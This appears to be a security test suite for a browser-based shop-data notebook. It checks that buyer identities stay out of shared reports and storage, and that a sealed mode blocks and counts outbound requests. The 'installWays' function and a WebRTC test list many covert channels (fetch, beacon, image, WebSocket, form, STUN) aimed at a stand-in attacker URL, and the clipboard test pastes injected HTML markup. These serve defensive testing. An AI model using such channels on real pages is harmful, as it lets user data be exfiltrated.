import {createSocket, type Socket} from "node:dgram";
import type {AddressInfo} from "node:net";
import type {Page} from "playwright-core";
import {afterAll, beforeAll, beforeEach, describe, expect, test} from "vitest";
import {shippedNotebooks} from "../../src/notebook/library";
import {button, cell, figures, last, notebook, open, run} from "../support/attack-notebooks";
import {attackerLog, attackerUrl, clearAttackerLog} from "../support/attacker";
import {closeBrowser, sql} from "../support/browser";
import {dropFiles, sampleFile, settled} from "../support/checkup";
import {footholds, mark, openWatched, type WatchedPage} from "../support/hostile";
import {downloaded, importFiles} from "../support/importing";
import {reportFile, sixOrders} from "../support/orders";
import {markup, short} from "../support/payloads";
import {soakCases} from "../support/soak";

afterAll(closeBrowser);

/** What the sample's file says of its buyers: names, addresses and ids that must be nowhere but in the shop itself. */
interface Identities {
  buyers: string[];
  orders: string[];
}

async function identitiesOf(page: Page): Promise<Identities> {
  const buyers = await sql(page, "select distinct customer_key as name from customers", {maxRows: 100_000});
  const orders = await sql(page, "select distinct order_id as name from orders", {maxRows: 100_000});
  const plain = (rows: Record<string, unknown>[]) =>
    rows.map(({name}) => String(name)).filter((name) => name.length > 3);
  return {buyers: plain(buyers), orders: plain(orders)};
}

/** The title of a shipped notebook, as the English page calls it. */
function englishTitle(name: string): string {
  const {title} = shippedNotebooks.get(name)!;
  return typeof title === "string" ? title : title.en!;
}

/** Which of the shop's identities stand in a text, as whole words. */
function named(text: string, {buyers, orders}: Identities): string[] {
  const words = new Set(text.split(/[^\p{L}\p{N}_*]+/u));
  return [...buyers, ...orders].filter((name) => words.has(name) || (/\W/.test(name) && text.includes(name)));
}

describe("a whole session over the sample shop", () => {
  let watched: WatchedPage;
  let page: Page;
  let identities: Identities;
  beforeAll(async () => {
    watched = await openWatched({viewport: {width: 1440, height: 1400}, notebook: "checkup"});
    page = watched.page;
    await importFiles(page, sampleFile("taobao-orders.csv"));
    await settled(page);
    identities = await identitiesOf(page);
  });
  afterAll(() => watched.close());

  /** Opens the dialog and takes the report and the picture of what is open. */
  async function share(): Promise<{report: string; picture: string; link: string}> {
    await button(page, "Share").click();
    const dialog = page.getByRole("dialog");
    await dialog.getByRole("button", {name: "Copy link"}).click();
    const field = dialog.locator("textarea, p[role=alert]").first();
    await field.waitFor();
    const link = await field.evaluate((node) => (node as HTMLTextAreaElement).value ?? "");
    const texts: string[] = [];
    for (const [way, name] of [
      ["report", "Save report"],
      ["picture", "Save SVG"]
    ] as const) {
      await dialog.locator(`[data-way=${way}]`).click();
      const save = dialog.getByRole("button", {name});
      await expect.poll(() => save.isEnabled(), {timeout: 60_000}).toBe(true);
      texts.push((await downloaded(page, () => save.click())).bytes.toString());
    }
    await dialog.getByRole("button", {name: "Close", exact: true}).first().click();
    return {report: texts[0]!, picture: texts[1]!, link};
  }

  test.each(soakCases([...shippedNotebooks.keys()], 1, 0))(
    "D5 no buyer and no order leaves with the shipped notebook %s: report, picture, link, and the files of every chart",
    async (name) => {
      expect(identities.buyers.length).toBeGreaterThan(1000);
      expect(identities.orders.length).toBeGreaterThan(5000);
      await page
        .locator("nav.rail .notebooks")
        .getByRole("button", {name: englishTitle(name), exact: true})
        .click();
      await settled(page);
      const {report, picture, link} = await share();
      const found = Object.entries({report, picture, link}).flatMap(([kind, text]) =>
        named(text, identities).map((each) => `${kind}: ${each}`)
      );
      const files = await filesOfCharts(page);
      for (const file of files) found.push(...named(file.text, identities).map((each) => `${file.name}: ${each}`));
      expect(found).toEqual([]);
      // an order file alone has no days of a shop: all that the notebook of those has to show is that it lacks them
      if (name !== "traffic") {
        expect(report.length + picture.length).toBeGreaterThan(10_000);
        expect(files.filter(({name}) => name.endsWith(".csv")).length).toBeGreaterThan(3);
        expect(files.filter(({name}) => name.endsWith(".svg")).length).toBeGreaterThan(0);
      }
      // the search would find them
      expect(named(`<td>${identities.buyers[7]}</td>`, identities)).toEqual([identities.buyers[7]]);
    }
  );

  test("D6 a report narrowed to a few holds no count under ten, and none that is left when the others are taken away", async () => {
    await page.locator("nav.rail .notebooks button.item").first().click();
    await settled(page);
    const text = [
      "---\ntitle: Few\n---\n",
      "{{few_total.customers}} customers in all.\n",
      cell(
        "sql",
        "few",
        "select * from customers where net_amount > 0 order by hash(net_amount), first_date, last_date limit 60"
      ),
      cell("sql", "few_total", "select count(*) as customers from few"),
      cell("sql", "by_stage", "select stage, count(*) as customers from few group by stage order by stage"),
      cell("sql", "by_tier", "select tier, count(*) as customers from few group by tier order by tier"),
      cell(
        "sql",
        "by_both",
        "select stage, tier, count(*) as customers from few group by stage, tier order by stage, tier"
      ),
      cell("chart", "stage_chart", "kind: bar\nfrom: by_stage\nx: stage\ny: customers"),
      cell("chart", "tier_chart", "kind: bar\nfrom: by_tier\nx: tier\ny: customers"),
      cell("chart", "both_chart", "kind: table\nfrom: by_both"),
      last
    ].join("\n");
    await run(page, text, "last_cell");
    const truth: Record<string, number[]> = {};
    for (const name of ["by_stage", "by_tier", "by_both"])
      truth[name] = (await sql(page, `select customers from notebook.${name}`)).map(({customers}) => Number(customers));
    expect(truth.by_both!.filter((count) => count < 10).length).toBeGreaterThan(0);
    const {report, picture} = await share();
    const tables = await tablesOf(page, report);
    expect(tables.length).toBeGreaterThan(0);
    for (const {columns} of tables) {
      const counts = columns.filter(({heading}) => /customers/i.test(heading));
      for (const {cells} of counts) {
        const numbers = cells.filter((each) => /^[\d,]+$/.test(each)).map((each) => Number(each.replaceAll(",", "")));
        expect(numbers.filter((count) => count > 0 && count < 10)).toEqual([]);
        // sixty are in every table: what is not shown of them must be nobody, or several groups of ten and more together
        const rest = 60 - numbers.reduce((sum, count) => sum + count, 0);
        const whole = Object.values(truth).find((all) => numbers.every((count) => all.includes(count)))!;
        const hidden = whole.length - numbers.length;
        expect({rest, hidden}).not.toEqual({rest: expect.any(Number), hidden: 1});
        if (hidden > 0) expect(rest).toBeGreaterThanOrEqual(10);
      }
    }
    expect(named(report + picture, identities)).toEqual([]);
  });

  test("D7 no buyer stands in the address, the title, the console, what is kept by name, or a message", async () => {
    const buyer = identities.buyers[3]!;
    const literal = `'${buyer.replaceAll("'", "''")}'`;
    for (const wrong of [
      "select customer_key::integer from customers",
      "select customer_key::date from customers",
      "select customer_id::varchar::integer[] from customers",
      `select nothing from customers where customer_key = ${literal}`
    ])
      await sql(page, wrong).catch(() => undefined);
    await open(
      page,
      notebook(
        cell("sql", "failing", "select customer_key::integer as n from customers"),
        cell("sql", "dated", "select customer_key::date as n from customers"),
        cell("chart", "failing_chart", "kind: table\nfrom: failing")
      )
    );
    await page.locator('[data-cell="last_cell"][data-state=done]').first().waitFor({state: "attached"});
    await settled(page);
    const messages = (await page.locator("main .failed").allInnerTexts()).join("\n");
    expect(messages).not.toBe("");
    await button(page, "Edit").click();
    await page.locator(".editor.sql .cm-content").first().waitFor();
    const inEditor = (await page.locator(".trouble, .problems, main [role=alert]").allInnerTexts()).join("\n");
    await button(page, "Done").click();
    const kept = await page.evaluate(async () => {
      const stores = [...Object.entries(localStorage), ...Object.entries(sessionStorage)].flat();
      const databases = await indexedDB.databases();
      const keys = await Promise.all(
        databases.map(
          ({name}) =>
            new Promise<string[]>((resolve) => {
              const opening = indexedDB.open(name!);
              opening.onsuccess = () => {
                const db = opening.result;
                const reading = db.transaction([...db.objectStoreNames]);
                const found = [...db.objectStoreNames].map(
                  (store) =>
                    new Promise<string>((done) => {
                      const all = reading.objectStore(store).getAllKeys();
                      all.onsuccess = () => done(JSON.stringify(all.result));
                    })
                );
                void Promise.all(found).then((each) => (db.close(), resolve(each)));
              };
            })
        )
      );
      return [document.title, location.href, JSON.stringify(history.state), document.cookie, ...stores, ...keys.flat()];
    });
    const places = {
      kept: kept.join("\n"),
      console: watched.said.join("\n"),
      errors: watched.errors.join("\n"),
      requests: watched.requests.join("\n"),
      messages,
      inEditor
    };
    for (const [place, text] of Object.entries(places))
      expect({place, found: named(text, identities)}).toEqual({place, found: []});
  });

  test("has broken no rule of the policy and asked for nothing, and the badge says so", async () => {
    expect(watched.violations).toEqual([]);
    expect(watched.errors).toEqual([]);
    expect(await page.locator(".seal.is-sealed").innerText()).toMatch(/\b0\b/);
  });
});

/** What every button under every chart would download, as text. */
function filesOfCharts(page: Page): Promise<{name: string; text: string}[]> {
  return page.evaluate(async () => {
    const taken: {name: string; text: Promise<string>}[] = [];
    const blobs = new Map<string, Blob>();
    const {createObjectURL} = URL;
    const {click} = HTMLAnchorElement.prototype;
    URL.createObjectURL = (blob: Blob) => {
      const url = createObjectURL.call(URL, blob);
      blobs.set(url, blob);
      return url;
    };
    HTMLAnchorElement.prototype.click = function () {
      const blob = blobs.get(this.href);
      if (blob) taken.push({name: this.download, text: blob.text()});
    };
    const wanted = [...document.querySelectorAll<HTMLElement>("figure .take button")].filter(({textContent}) =>
      /^(CSV|SVG)$/.test(textContent!.trim())
    );
    for (const button of wanted) button.click();
    // a picture is written in turns
    for (let turn = 0, seen = -1; turn < 50 && (turn < 10 || seen !== taken.length); turn += 1) {
      seen = taken.length;
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
    Object.assign(URL, {createObjectURL});
    Object.assign(HTMLAnchorElement.prototype, {click});
    return Promise.all(taken.map(async ({name, text}) => ({name, text: await text})));
  });
}

interface ReadTable {
  columns: {heading: string; cells: string[]}[];
}

/** The tables of a report, by column. */
function tablesOf(page: Page, html: string): Promise<ReadTable[]> {
  return page.evaluate((text) => {
    // parsed by hand: a sealed page makes no document of a text
    const rowsOf = (table: string) =>
      [...table.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].map(([, row]) =>
        [...row!.matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map(([, cell]) => cell!.replace(/<[^>]+>/g, "").trim())
      );
    return [...text.matchAll(/<table[\s\S]*?<\/table>/g)].map(([table]) => {
      const [head = [], ...rows] = rowsOf(table);
      return {columns: head.map((heading, at) => ({heading, cells: rows.map((row) => row[at] ?? "")}))};
    });
  }, html);
}

describe("D4 the clipboard", () => {
  test("is read as plain text, on the page and in every editor", async () => {
    clearAttackerLog();
    const watched = await openWatched({notebook: "checkup"});
    const {page} = watched;
    await importFiles(page, reportFile("orders.csv", sixOrders("43")));
    await settled(page);
    const before = await sql(page, figures);
    const paste = (selector: string, plain: string) =>
      page.evaluate(
        ([where, html, text]) => {
          const clipboardData = new DataTransfer();
          clipboardData.setData("text/html", html!);
          clipboardData.setData("text/plain", text!);
          const target = document.querySelector(where!)!;
          target.dispatchEvent(new ClipboardEvent("paste", {clipboardData, bubbles: true, cancelable: true}));
        },
        [selector, `<table><tr><td>${markup.join("</td><td>")}</td></tr></table>`, plain]
      );
    await paste("body", short);
    expect(await footholds(page)).toEqual([]);
    await button(page, "Edit").click();
    const members = 'article[data-cell="members"]';
    const editor = `${members} .editor.sql .cm-content`;
    await page.locator(members).scrollIntoViewIfNeeded();
    await page.locator(editor).click();
    await page.keyboard.press("ControlOrMeta+a");
    await paste(editor, `select '${mark}' as pasted`);
    await expect.poll(() => page.locator(editor).innerText()).toContain(`select '${mark}'`);
    expect(await page.locator(editor).innerText()).not.toContain("onerror");
    await expect(
      page.evaluate((html) => document.execCommand("insertHTML", false, html), markup.join(""))
    ).rejects.toThrow("TrustedHTML");
    expect(await footholds(page)).toEqual([]);
    // as when a file is dropped that is a page
    await dropFiles(page, {name: "page.html", mimeType: "text/html", buffer: Buffer.from(markup.join("\n"))});
    await page.locator(".failure, dialog").first().waitFor();
    expect(await footholds(page)).toEqual([]);
    expect(await sql(page, figures)).toEqual(before);
    expect({ran: await watched.ran(), opened: watched.opened, log: await attackerLog()}).toEqual({
      ...{ran: [], opened: [], log: []}
    });
    await watched.close();
  });
});

/** Every way out that a page has, and whether the browser says so to the page when it closes it. */
const ways: Readonly<Record<string, boolean>> = {
  fetch: true,
  xhr: true,
  socket: true,
  events: true,
  beacon: true,
  image: true,
  css_url: true,
  font: true,
  stylesheet: true,
  iframe: true,
  object: false,
  video: true,
  form: true,
  ping: false,
  prefetch: true,
  module: false,
  worker: false,
  manifest: false
};

function installWays(): void {
  const add = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, given: Partial<HTMLElementTagNameMap[Tag]>) => {
    const element = Object.assign(document.createElement(tag), given);
    document.body.append(element);
    return element;
  };
  /** what Trusted Types refuse never becomes a request that could be counted */
  const quietly = (work: () => unknown) => {
    try {
      void Promise.resolve(work()).catch(() => undefined);
    } catch {
      // refused at once
    }
  };
  const all: Record<string, (url: string) => void> = {
    fetch: (url) => quietly(() => fetch(url, {method: "POST", mode: "no-cors", body: "data", keepalive: true})),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.send("data");
    },
    socket: (url) => quietly(() => new WebSocket(url.replace("http", "ws"))),
    events: (url) => quietly(() => new EventSource(url)),
    beacon: (url) => void navigator.sendBeacon(url, "data"),
    image: (url) => void add("img", {src: url}),
    css_url: (url) => add("div", {}).setAttribute("style", `width:9px;height:9px;background:url(${url})`),
    font: (url) => quietly(() => new FontFace("leak", `url(${url})`).load()),
    stylesheet: (url) => void add("link", {rel: "stylesheet", href: url}),
    iframe: (url) => void add("iframe", {src: url}),
    object: (url) => quietly(() => add("object", {data: url})),
    video: (url) => void add("video", {src: url}),
    form: (url) => add("form", {action: url, method: "post"}).submit(),
    ping: (url) => {
      const link = add("a", {href: "#nowhere", ping: url});
      link.click();
    },
    prefetch: (url) => void add("link", {rel: "prefetch", href: url}),
    module: (url) => quietly(() => import(/* @vite-ignore */ url)),
    worker: (url) => quietly(() => new Worker(url)),
    manifest: (url) => void add("link", {rel: "manifest", href: url})
  };
  Object.assign(globalThis, {huitouWays: all});
}

describe("sealed mode against a script that should never have run", () => {
  let watched: WatchedPage;
  let page: Page;
  let udp: Socket;
  const packets: string[] = [];
  beforeAll(async () => {
    udp = createSocket("udp4", (message) => packets.push(message.toString("hex").slice(0, 8)));
    await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
    watched = await openWatched();
    page = watched.page;
    await importFiles(page, reportFile("orders.csv", sixOrders("43")));
    await settled(page);
    await page.evaluate(installWays);
    clearAttackerLog();
  });
  afterAll(async () => {
    udp.close();
    await watched.close();
  });

  test("the badge is at nought after honest use", async () => {
    expect(await page.locator(".seal.is-sealed").innerText()).toMatch(/\b0\b/);
  });

  beforeEach(clearAttackerLog);
  test.each(Object.keys(ways))("%s reaches nobody, and is counted", async (way) => {
    const count = async () => Number(/\d+/.exec(await page.locator(".seal").innerText())?.[0]);
    const before = await count();
    await page.evaluate(
      ([name, url]) => {
        const give = (globalThis as unknown as {huitouWays?: Record<string, (url: string) => void>}).huitouWays;
        give?.[name!]?.(url!);
      },
      [way, `${attackerUrl}/${way}`]
    );
    if (ways[way]) await expect.poll(count).toBeGreaterThan(before);
    // a browser may connect ahead of a frame that it then refuses, and says nothing through that connection
    expect((await attackerLog()).filter((line) => way !== "iframe" || line !== "connection")).toEqual([]);
  });

  test("WebRTC sends no packet to a server of the attacker's", async () => {
    const {port} = udp.address() as AddressInfo;
    const outcome = await page.evaluate(async (urls) => {
      try {
        const connection = new RTCPeerConnection({iceServers: [{urls}]});
        connection.createDataChannel("leak");
        await connection.setLocalDescription(await connection.createOffer());
        return await new Promise<string>((resolve) => {
          connection.onicegatheringstatechange = () =>
            connection.iceGatheringState === "complete" && resolve("gathered");
        });
      } catch (error) {
        return String(error);
      }
    }, `stun:127.0.0.1:${port}`);
    expect({outcome, packets}).toEqual({outcome: expect.stringMatching(/error|not defined/i), packets: []});
  });
});
